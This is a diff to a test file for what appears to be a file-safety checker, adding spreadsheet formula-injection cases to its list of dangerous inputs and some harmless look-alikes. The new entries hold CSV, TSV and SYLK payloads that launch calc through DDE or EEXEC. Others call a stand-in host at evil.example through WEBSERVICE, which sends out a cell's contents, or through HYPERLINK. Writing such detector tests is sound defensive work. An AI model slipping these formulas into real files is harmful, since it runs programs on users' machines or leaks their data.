@@ -346,6 +346,7 @@ MORE = r"\(something else stands behind the picture's end\)"
 NO_PICTURE = r"\(what stands for a picture is none, or more than one\)"
 MHTML = b"From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n\tboundary=x\r\n\r\n--x"
 
+STARTS_ONE = r"it contains a program \(a cell in it starts a program\)"
 DANGEROUS: dict[str, Entry] = {
     "a picture with a Mac program behind it": ("a.png", png(MACH_O), MORE),
     "a picture with Java behind it": ("a.png", png(b"\xca\xfe\xba\xbe" + b"\0\1" * 100), MORE),
@@ -428,6 +429,12 @@ DANGEROUS: dict[str, Entry] = {
     "a Word document with a linked sheet": (
         "a.docx", docx(nested("{", ' LINK Excel.Sheet.12 "\\\\evil\\a.xlsx" ', "|", "}")), FETCHES,
     ),
+    "a table whose cell starts a program": ("a.csv", b"step,loss\n1,=cmd|' /C calc'!A0\n", STARTS_ONE),
+    "a table whose cell adds a program": ("a.csv", b'step;loss\r\n1; "=1+cmd|\'/C calc\'!A0"', STARTS_ONE),
+    "a table whose cell takes a program away": ("a.tsv", b"1\t-cmd|'/C calc'!A0", STARTS_ONE),
+    "a table in another form called CSV": ("a.csv", b"ID;PWXL;N;E\nC;X1;Y1;EEXEC(\"CALC.EXE\")\nE\n", STARTS_ONE),
+    "a table that fetches": ("a.csv", b'a,b\n1,"=WEBSERVICE(""http://evil.example/""&A1)"\n', FETCHES),
+    "a table that leads away": ("a.csv", b'a\n+HYPERLINK("http://evil.example")\n', FETCHES),
     "a Windows program": ("setup.exe", WINDOWS_PROGRAM, "it's a program"),
     "a Windows program called a PDF": ("review.pdf", WINDOWS_PROGRAM, "it's really a program"),
     "a Linux program called a notebook": ("lab.ipynb", ELF, "it's really a program"),
@@ -669,6 +676,8 @@ HARMLESS: dict[str, tuple[str, bytes]] = {
     "a text that begins with MZ": ("notes.txt", b"MZ is how Windows programs begin."),
     "a text from Notepad": ("notes.txt", "Grüße\r\n".encode("utf-16")),
     "a text without an ending": ("notes", b"Just a text."),
+    "a table with formulas": ("losses.csv", b"step,loss,sum\n1,-0.5,=A2+B2\n2,+1,=SUM(A2:B3)\n"),
+    "a list with bars": ("notes.md", b"- see a | b!\n- f|g and h!x\n| = | x |\n- an image(x), a call(y)\n@ana | hi!\n"),
     "a list in brackets": ("notes.txt", b"[1] Vaswani et al.\n[2] Amini et al.\n"),
     "numbers": ("losses.csv", b"step,loss\n1,-0.5\n"),
     "a melody in ABC": ("song.abc", b"X:1\nT:Tune\nK:G\nGABc dedB|"),
